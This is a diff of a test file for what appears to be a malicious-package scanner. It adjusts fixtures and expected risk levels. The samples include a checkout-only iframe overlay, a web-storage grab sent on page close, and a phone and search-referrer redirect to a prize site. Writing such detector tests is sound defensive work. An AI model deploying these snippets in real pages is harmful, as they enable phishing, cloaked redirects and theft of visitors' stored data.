@@ -112,18 +112,6 @@ describe('pages and visitors picked, storage enumerated, data handed to another 
       'js.gated-remote-script',
     ],
     [
-      "another site's frame laid over the checkout page only",
-      `function mount() {
-        if (!/checkout|payment/i.test(location.pathname)) return;
-        var f = document.createElement('iframe');
-        f.src = 'https://pay-gateway.example/frame';
-        f.setAttribute('style', 'position:fixed;inset:0;z-index:2147483647');
-        document.body.appendChild(f);
-      }
-      document.addEventListener('DOMContentLoaded', mount);`,
-      'js.gated-remote-script',
-    ],
-    [
       'every web-storage entry, enumerated by key, sent with sendBeacon when the page closes',
       `const grab = () => {
         const out = {};
@@ -156,6 +144,21 @@ describe('pages and visitors picked, storage enumerated, data handed to another 
     const r = analyzeSource({ 'package.json': pkg, 'index.js': code });
     expect(r.evidence.map((e) => e.rule)).toContain(rule);
     expect(r.risk_level).toBe('critical');
+  });
+
+  it("another site's frame laid over the checkout page only: a warning (payment widgets frame their host too)", () => {
+    const r = analyzeSource({
+      'package.json': pkg,
+      'index.js': `function mount() {
+        if (!/checkout|payment/i.test(location.pathname)) return;
+        var f = document.createElement('iframe');
+        f.src = 'https://pay-gateway.example/frame';
+        document.body.appendChild(f);
+      }
+      document.addEventListener('DOMContentLoaded', mount);`,
+    });
+    expect(r.evidence.find((e) => e.rule === 'js.gated-remote-script')?.confidence).toBe(0.5);
+    expect(r.risk_level).toBe('warning');
   });
 
   it.each([
@@ -221,8 +224,8 @@ describe('drainers on other chains and through signatures, redirects by markup, 
       'js.wallet-drain',
     ],
     [
-      'phones sent away by a meta refresh written into the head',
-      `if (/Android|iPhone/i.test(navigator.userAgent)) document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=https://win-prize.example/">');`,
+      'search visitors on phones sent away by a meta refresh written into the head',
+      `if (/google\\./.test(document.referrer) && /Android|iPhone/i.test(navigator.userAgent)) document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=https://win-prize.example/">');`,
       'js.gated-remote-script',
     ],
     [
